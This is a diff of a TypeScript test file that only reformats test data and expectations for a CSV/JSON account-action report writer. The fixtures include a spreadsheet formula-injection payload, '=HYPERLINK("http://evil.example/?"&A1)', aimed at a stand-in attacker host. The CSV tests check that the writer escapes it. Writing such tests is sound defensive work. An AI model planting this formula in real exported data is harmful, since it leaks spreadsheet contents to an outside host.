@@ -15,9 +15,28 @@ afterAll(async () => {
 
 const ENTRIES: ReportEntry[] = [
   { line: 2, user: 'jdoe', dn: 'CN=John Doe,OU=Staff,DC=corp,DC=example,DC=com', action: 'enable', outcome: 'changed' },
-  { line: 3, user: 'Doe, John', dn: 'CN=Doe\\, John,OU=Staff,DC=corp,DC=example,DC=com', action: 'disable', outcome: 'unchanged' },
-  { line: 4, user: '=HYPERLINK("http://evil.example/?"&A1)', action: 'enable', outcome: 'invalid', reason: 'user "x" appears again (first on line 2)' },
-  { line: 5, user: '-jdoe', dn: 'CN=-jdoe,DC=corp,DC=example,DC=com', action: 'move', outcome: 'failed', reason: '-ERR server said\r\nno' },
+  {
+    line: 3,
+    user: 'Doe, John',
+    dn: 'CN=Doe\\, John,OU=Staff,DC=corp,DC=example,DC=com',
+    action: 'disable',
+    outcome: 'unchanged',
+  },
+  {
+    line: 4,
+    user: '=HYPERLINK("http://evil.example/?"&A1)',
+    action: 'enable',
+    outcome: 'invalid',
+    reason: 'user "x" appears again (first on line 2)',
+  },
+  {
+    line: 5,
+    user: '-jdoe',
+    dn: 'CN=-jdoe,DC=corp,DC=example,DC=com',
+    action: 'move',
+    outcome: 'failed',
+    reason: '-ERR server said\r\nno',
+  },
   { line: 6, user: 'josé.müller', action: 'enable', outcome: 'planned' },
   { line: 7, user: '@cmd', action: 'enable', outcome: 'skipped', reason: ' +1' },
   { line: 0, user: 'from-argv', action: 'disable', outcome: 'changed', dn: '', reason: '' },
@@ -56,10 +75,38 @@ describe('CSV report', () => {
     expect(raw.startsWith('\uFEFFline,user,dn,action,outcome,reason\r\n')).toBe(true);
     const rows = parse(raw, { bom: true, columns: true }) as Record<string, string>[];
     expect(rows).toEqual([
-      { line: '2', user: 'jdoe', dn: 'CN=John Doe,OU=Staff,DC=corp,DC=example,DC=com', action: 'enable', outcome: 'changed', reason: '' },
-      { line: '3', user: 'Doe, John', dn: 'CN=Doe\\, John,OU=Staff,DC=corp,DC=example,DC=com', action: 'disable', outcome: 'unchanged', reason: '' },
-      { line: '4', user: '\'=HYPERLINK("http://evil.example/?"&A1)', dn: '', action: 'enable', outcome: 'invalid', reason: 'user "x" appears again (first on line 2)' },
-      { line: '5', user: "'-jdoe", dn: 'CN=-jdoe,DC=corp,DC=example,DC=com', action: 'move', outcome: 'failed', reason: "'-ERR server said\r\nno" },
+      {
+        line: '2',
+        user: 'jdoe',
+        dn: 'CN=John Doe,OU=Staff,DC=corp,DC=example,DC=com',
+        action: 'enable',
+        outcome: 'changed',
+        reason: '',
+      },
+      {
+        line: '3',
+        user: 'Doe, John',
+        dn: 'CN=Doe\\, John,OU=Staff,DC=corp,DC=example,DC=com',
+        action: 'disable',
+        outcome: 'unchanged',
+        reason: '',
+      },
+      {
+        line: '4',
+        user: '\'=HYPERLINK("http://evil.example/?"&A1)',
+        dn: '',
+        action: 'enable',
+        outcome: 'invalid',
+        reason: 'user "x" appears again (first on line 2)',
+      },
+      {
+        line: '5',
+        user: "'-jdoe",
+        dn: 'CN=-jdoe,DC=corp,DC=example,DC=com',
+        action: 'move',
+        outcome: 'failed',
+        reason: "'-ERR server said\r\nno",
+      },
       { line: '6', user: 'josé.müller', dn: '', action: 'enable', outcome: 'planned', reason: '' },
       { line: '7', user: "'@cmd", dn: '', action: 'enable', outcome: 'skipped', reason: "' +1" },
       { line: '', user: 'from-argv', dn: '', action: 'disable', outcome: 'changed', reason: '' },
@@ -81,9 +128,23 @@ describe('JSON reports', () => {
     await writeAll(path);
     const data = JSON.parse(await readFile(path, 'utf8')) as unknown[];
     expect(data).toHaveLength(ENTRIES.length);
-    expect(data[0]).toEqual({ line: 2, user: 'jdoe', dn: 'CN=John Doe,OU=Staff,DC=corp,DC=example,DC=com', action: 'enable', outcome: 'changed', reason: null });
+    expect(data[0]).toEqual({
+      line: 2,
+      user: 'jdoe',
+      dn: 'CN=John Doe,OU=Staff,DC=corp,DC=example,DC=com',
+      action: 'enable',
+      outcome: 'changed',
+      reason: null,
+    });
     expect(data[2]).toMatchObject({ user: '=HYPERLINK("http://evil.example/?"&A1)', dn: null });
-    expect(data[6]).toEqual({ line: null, user: 'from-argv', dn: null, action: 'disable', outcome: 'changed', reason: null });
+    expect(data[6]).toEqual({
+      line: null,
+      user: 'from-argv',
+      dn: null,
+      action: 'disable',
+      outcome: 'changed',
+      reason: null,
+    });
     expect(Object.keys(data[4] as object)).toEqual(['line', 'user', 'dn', 'action', 'outcome', 'reason']);
   });
 
@@ -98,13 +159,21 @@ describe('JSON reports', () => {
     await writeAll(path);
     const lines = (await readFile(path, 'utf8')).trimEnd().split('\n');
     expect(lines).toHaveLength(ENTRIES.length);
-    expect(JSON.parse(lines[3] ?? '')).toEqual({ line: 5, user: '-jdoe', dn: 'CN=-jdoe,DC=corp,DC=example,DC=com', action: 'move', outcome: 'failed', reason: '-ERR server said\r\nno' });
+    expect(JSON.parse(lines[3] ?? '')).toEqual({
+      line: 5,
+      user: '-jdoe',
+      dn: 'CN=-jdoe,DC=corp,DC=example,DC=com',
+      action: 'move',
+      outcome: 'failed',
+      reason: '-ERR server said\r\nno',
+    });
   });
 
   it('streams many entries', async () => {
     const path = join(tmp, 'many.json');
     const report = openReport(path);
-    for (let i = 0; i < 50_000; i++) await report.write({ line: i + 2, user: `u${i}`, action: 'enable', outcome: 'planned' });
+    for (let i = 0; i < 50_000; i++)
+      await report.write({ line: i + 2, user: `u${i}`, action: 'enable', outcome: 'planned' });
     await report.close();
     const data = JSON.parse(await readFile(path, 'utf8')) as { line: number }[];
     expect(data).toHaveLength(50_000);
@@ -157,8 +226,20 @@ describe('file handling', () => {
   });
 
   it.each([
-    ['a missing directory', () => join(tmp, 'no-such-dir', 'r.csv'), /Cannot write the report to .*r\.csv: its directory does not exist\.$/],
-    ['a directory', async () => { const d = join(tmp, 'dir.csv'); await mkdir(d); return d; }, /dir\.csv: it is a directory\.$/],
+    [
+      'a missing directory',
+      () => join(tmp, 'no-such-dir', 'r.csv'),
+      /Cannot write the report to .*r\.csv: its directory does not exist\.$/,
+    ],
+    [
+      'a directory',
+      async () => {
+        const d = join(tmp, 'dir.csv');
+        await mkdir(d);
+        return d;
+      },
+      /dir\.csv: it is a directory\.$/,
+    ],
   ])('throws ReportError synchronously for %s', async (_name, path, message) => {
     const p = await path();
     expect(() => openReport(p)).toThrow(ReportError);
